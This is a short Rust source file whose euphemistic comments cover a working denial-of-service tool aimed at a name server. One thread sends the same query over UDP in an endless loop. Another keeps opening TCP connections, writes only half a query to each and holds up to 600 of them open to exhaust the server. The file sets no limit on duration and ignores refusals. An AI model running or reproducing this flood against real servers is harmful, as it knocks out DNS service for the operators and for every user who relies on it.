//! More questions for names than anybody can answer, until the probe ends.

use std::{
    collections::VecDeque,
    io::Write as _,
    net::{Ipv4Addr, SocketAddr, TcpStream, UdpSocket},
    thread,
    time::Duration,
};

use anyhow::Result;

/// Connections that are held at a time, of which each has asked for the first half of a question.
const HELD: usize = 600;

/// Between two tries, which leaves a processor to those who are to be answered meanwhile.
const PAUSE: Duration = Duration::from_millis(1);

/// Over both transports, each in a thread of its own. A server that refuses does not end it.
pub fn begin(server: SocketAddr, question: Vec<u8>) -> Result<()> {
    let sender = UdpSocket::bind((Ipv4Addr::UNSPECIFIED, 0))?;
    sender.connect(server)?;
    let half = question.get(..question.len() / 2).unwrap_or_default().to_vec();
    thread::Builder::new().spawn(move || {
        loop {
            // What is not taken now may be the next time.
            if sender.send(&question).is_err() {
                thread::sleep(PAUSE);
            }
        }
    })?;
    thread::Builder::new().spawn(move || {
        let mut held = VecDeque::new();
        loop {
            if let Ok(mut stream) = TcpStream::connect(server)
                && stream.write_all(&half).is_ok()
            {
                held.push_back(stream);
            }
            if held.len() > HELD {
                held.pop_front();
            }
            thread::sleep(PAUSE * 4);
        }
    })?;
    Ok(())
}
